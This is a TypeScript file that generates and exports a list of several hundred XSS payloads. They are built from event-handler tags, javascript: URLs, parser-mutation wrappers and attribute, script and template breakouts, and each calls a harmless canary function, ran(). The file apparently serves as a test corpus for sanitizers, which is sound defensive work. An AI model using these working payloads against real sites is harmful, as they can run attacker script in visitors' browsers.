/** Every text calls `ran()` if a browser takes it for a script. */
const call = 'ran()'

const events = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin']

/** Elements that run something by themselves, with an attribute that holds it. */
const elements = [
  ...events.map((event) => `<img src=x ${event}=${call}>`),
  ...events.map((event) => `<svg ${event}=${call}>`),
  ...events.map((event) => `<body ${event}=${call}>`),
  ...events.map((event) => `<input autofocus ${event}=${call}>`),
  ...events.map((event) => `<details open ${event}=${call}>`),
  ...events.map((event) => `<video src=x ${event}=${call}></video>`),
  ...events.map((event) => `<p ${event}=${call} tabindex=1>p</p>`),
  ...events.map((event) => `<span style="animation:x" ${event}="${call}">s</span>`),
  `<script>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type="module">${call}</script>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">a</a>`,
  `<a href="java&#10;script:${call}">a</a>`,
  `<form action="javascript:${call}"><button>b</button></form>`,
  `<button formaction="javascript:${call}">b</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="javascript:/${call}//">`,
  `<link rel="stylesheet" href="javascript:${call}">`,
  `<style>@import 'javascript:${call}'</style>`,
]

/** Where a parser changes its mind: mutation XSS, foreign content, comments and raw text. */
const mutations = [
  (inner: string) => `<svg><style><!--</style>${inner}-->`,
  (inner: string) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner: string) => `<noscript><p title="</noscript>${inner}">`,
  (inner: string) => `<svg></p><style><a id="</style>${inner}">`,
  (inner: string) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner: string) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner: string) => `<xmp><p title="</xmp>${inner}">`,
  (inner: string) => `<template>${inner}</template>`,
  (inner: string) => `<textarea></textarea>${inner}`,
  (inner: string) => `<title></title>${inner}`,
]

/** Out of an attribute, a script, JSON or a URL. */
const breakouts = [
  (inner: string) => inner,
  (inner: string) => `">${inner}`,
  (inner: string) => `'>${inner}`,
  (inner: string) => `</script>${inner}`,
  (inner: string) => `</title></textarea></style>${inner}`,
  (inner: string) => `\\u003c${inner}`,
  (inner: string) => `&lt;x&gt;${inner}`,
  (inner: string) => inner.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (inner: string) => inner.replaceAll('<', '＜'),
  (inner: string) => `{{constructor.constructor('${call}')()}}${inner}`,
  (inner: string) => `${inner.replace('<', '<\0')}`.replaceAll('\0', '/'),
]

/** At least 500, the plainest first. */
export const payloads: readonly string[] = [
  ...breakouts.flatMap((breakout) =>
    elements.filter((_, nth) => breakout === breakouts[0] || nth % 2 === 0).map(breakout),
  ),
  ...mutations.flatMap((mutate) => elements.filter((_, nth) => nth % 5 === 0).map(mutate)),
].slice(0, 700)
